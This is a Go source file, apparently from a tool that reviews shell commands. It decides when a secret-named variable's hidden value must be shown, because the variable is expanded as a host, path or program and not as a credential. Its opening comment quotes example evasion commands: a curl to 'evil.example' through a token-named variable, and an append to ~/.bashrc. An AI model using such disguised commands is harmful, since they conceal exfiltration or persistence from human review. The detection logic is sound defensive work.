package domain

import "strings"

// A secret-named variable's value (TOKEN=x, MY_SECRET=x) is hidden, and the
// shell does not read names: a command that assigns a host, a path or a
// program to one and then expands it where a host, a path or a program
// goes (GH_TOKEN=evil.example; curl "https://$GH_TOKEN/",
// API_TOKEN=~/.bashrc; … >> "$API_TOKEN", MY_SECRET=/tmp/x; "$MY_SECRET")
// hid where it sent, wrote or what it ran (the thirty-ninth review). So a
// variable the text expands anywhere but where a credential goes has its
// value shown: exposedVars.

// exposedVars returns the names of the variables s expands ($NAME,
// ${NAME…}) other than as a credential (credentialAt), or nil.
func exposedVars(s string) map[string]bool {
	var out map[string]bool
	for i := strings.IndexByte(s, '$'); i >= 0 && i+1 < len(s); {
		j := i + 1
		if s[j] == '{' {
			j++
		}
		k := j
		for k < len(s) && (s[k] == '_' || s[k] >= 'A' && s[k] <= 'Z' || s[k] >= 'a' && s[k] <= 'z' || k > j && s[k] >= '0' && s[k] <= '9') {
			k++
		}
		if k > j && !credentialAt(s, i, k) {
			if out == nil {
				out = map[string]bool{}
			}
			out[s[j:k]] = true
		}
		next := strings.IndexByte(s[i+1:], '$')
		if next < 0 {
			break
		}
		i += 1 + next
	}
	return out
}

// authSchemes are the words an Authorization header's credential follows.
var authSchemes = []string{"bearer ", "basic ", "token ", "digest "}

// credentialAt reports whether the expansion at s[i:e] (its '$' at i, its
// name ending at e) is where a credential goes, the one place a secret's
// value is expanded without deciding where a command sends, writes or what
// it runs: after an authorization scheme ("Bearer $T"), a header or an
// option whose name says it holds a secret ("X-Api-Key: $K",
// --password "$P", --token=$T, ?token=$T), or as a password after a user
// name (user:$P@host, curl -u user:$P). A quote just before it is skipped.
func credentialAt(s string, i, e int) bool {
	p := s[:i]
	if n := len(p); n > 0 && (p[n-1] == '"' || p[n-1] == '\'') {
		p = p[:n-1]
	}
	l := strings.ToLower(p[max(0, len(p)-8):])
	for _, w := range authSchemes {
		if strings.HasSuffix(l, w) {
			return true
		}
	}
	name := func(q string) string { // the name that ends q
		k := len(q)
		for k > 0 && (q[k-1] == '_' || q[k-1] == '-' || q[k-1] >= 'A' && q[k-1] <= 'Z' || q[k-1] >= 'a' && q[k-1] <= 'z' || q[k-1] >= '0' && q[k-1] <= '9') {
			k--
		}
		return q[k:]
	}
	switch {
	case strings.HasSuffix(p, ":") || strings.HasSuffix(p, ": "):
		if n := name(strings.TrimSuffix(strings.TrimSuffix(p, " "), ":")); n != "" && (secretKey(n) || strings.EqualFold(n, "authorization")) {
			return true
		}
		// user:$P@host, a URL's or curl -u's password.
		end := e
		if end < len(s) && s[end] == '}' {
			end++
		}
		if strings.HasSuffix(p, ":") && end < len(s) && s[end] == '@' {
			return true
		}
		// curl -u name:$P, --user name:$P.
		w := strings.TrimSuffix(p, ":")
		w = strings.TrimSuffix(w, name(w))
		w = strings.TrimRight(w, "'\"")
		return strings.HasSuffix(w, " -u ") || strings.HasSuffix(w, " --user ")
	case strings.HasSuffix(p, "="):
		n := strings.TrimLeft(name(p[:len(p)-1]), "-")
		return n != "" && secretKey(n) && (strings.HasPrefix(name(p[:len(p)-1]), "-") || queryName(p[:len(p)-1], n))
	case strings.HasSuffix(p, " "):
		w := p[:len(p)-1]
		if n := name(w); strings.HasPrefix(n, "-") && len(w) > len(n) && (w[len(w)-len(n)-1] == ' ' || w[len(w)-len(n)-1] == '\t') || n == w && strings.HasPrefix(n, "-") {
			return secretKey(strings.TrimLeft(n, "-"))
		}
	}
	return false
}

// queryName reports whether the name n ending p is a URL query's (after a
// '?' or '&'): ?token=$T.
func queryName(p, n string) bool {
	k := len(p) - len(n)
	return k > 0 && (p[k-1] == '?' || p[k-1] == '&')
}
